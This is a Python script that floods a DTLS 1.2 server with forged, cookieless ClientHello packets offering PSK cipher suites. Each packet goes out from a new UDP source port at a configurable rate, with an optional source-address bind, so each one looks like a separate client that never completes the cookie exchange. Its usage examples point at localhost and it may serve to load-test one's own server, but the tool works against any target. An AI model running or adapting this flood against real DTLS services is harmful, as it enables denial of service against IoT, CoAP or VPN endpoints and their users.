#!/usr/bin/env python3
"""Sends forged DTLS 1.2 ClientHellos (no cookie) from many distinct source ports at a given rate.

Each hello is a valid record and handshake header around a minimal ClientHello offering PSK
suites, sent from a fresh UDP socket, so every packet looks like a new peer and none answers the
server's HelloVerifyRequest. Standard library only.

    dtls-flood.py --target 127.0.0.1:5684 --rate 2000 --duration 10
    dtls-flood.py --target 127.0.0.1:5684 --count 101 --source 127.0.0.2

Prints one JSON line at the end: packets sent, seconds, achieved rate, send errors.
"""
import argparse
import json
import os
import socket
import struct
import sys
import time

# TLS_PSK_WITH_AES_128_CCM_8, TLS_PSK_WITH_AES_128_CCM, TLS_PSK_WITH_AES_128_GCM_SHA256,
# TLS_PSK_WITH_AES_128_CBC_SHA256, TLS_ECDHE_PSK_WITH_AES_128_CBC_SHA256
SUITES = [0xC0A8, 0xC0A4, 0x00A8, 0x00AE, 0xC037]


def client_hello(sequence: int) -> bytes:
    """One DTLS 1.2 record holding a complete ClientHello with an empty cookie."""
    body = b"\xfe\xfd"                       # client_version DTLS 1.2
    body += os.urandom(32)                   # random
    body += b"\x00"                          # session_id: empty
    body += b"\x00"                          # cookie: empty (no round trip done)
    suites = b"".join(struct.pack("!H", s) for s in SUITES)
    body += struct.pack("!H", len(suites)) + suites
    body += b"\x01\x00"                      # compression: null
    # extensions: encrypt_then_mac, extended_master_secret, renegotiation_info
    ext = b"\x00\x16\x00\x00" + b"\x00\x17\x00\x00" + b"\xff\x01\x00\x01\x00"
    body += struct.pack("!H", len(ext)) + ext
    length = len(body).to_bytes(3, "big")
    # msg_type 1, length, message_seq 0, fragment_offset 0, fragment_length = length
    handshake = b"\x01" + length + b"\x00\x00" + b"\x00\x00\x00" + length + body
    # content_type 22, version DTLS 1.0 in the first record (as OpenSSL sends), epoch 0, seq, length
    record = b"\x16\xfe\xff" + b"\x00\x00" + sequence.to_bytes(6, "big") + struct.pack("!H", len(handshake))
    return record + handshake


def parse_target(text: str):
    host, _, port = text.rpartition(":")
    if not host or not port.isdigit():
        sys.exit(f"dtls-flood: --target wants HOST:PORT, got {text!r}")
    return host.strip("[]"), int(port)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True, help="HOST:PORT of the DTLS server")
    parser.add_argument("--rate", type=float, default=2000, help="ClientHellos per second (default 2000)")
    parser.add_argument("--duration", type=float, default=None, help="seconds to send for")
    parser.add_argument("--count", type=int, default=None, help="ClientHellos to send, then stop")
    parser.add_argument("--source", default=None,
                        help="source address to bind (e.g. 127.0.0.2); default: the kernel's choice")
    args = parser.parse_args()
    if args.duration is None and args.count is None:
        parser.error("give --duration or --count")
    if args.rate <= 0:
        parser.error("--rate must be above 0")
    host, port = parse_target(args.target)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    target = socket.getaddrinfo(host, port, family, socket.SOCK_DGRAM)[0][4]

    interval = 1.0 / args.rate
    start = time.monotonic()
    deadline = start + args.duration if args.duration is not None else float("inf")
    sent = errors = 0
    while (args.count is None or sent + errors < args.count) and time.monotonic() < deadline:
        # A fresh socket per hello: a new source port, so the server sees a new peer each time.
        s = socket.socket(family, socket.SOCK_DGRAM)
        try:
            if args.source:
                s.bind((args.source, 0))
            s.sendto(client_hello(sent), target)
            sent += 1
        except OSError:
            errors += 1
        finally:
            s.close()
        # Paced against the start, so a slow iteration is caught up rather than lost.
        ahead = start + (sent + errors) * interval - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "errors": errors, "seconds": round(elapsed, 3),
                      "rate": round(sent / elapsed, 1) if elapsed > 0 else None}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
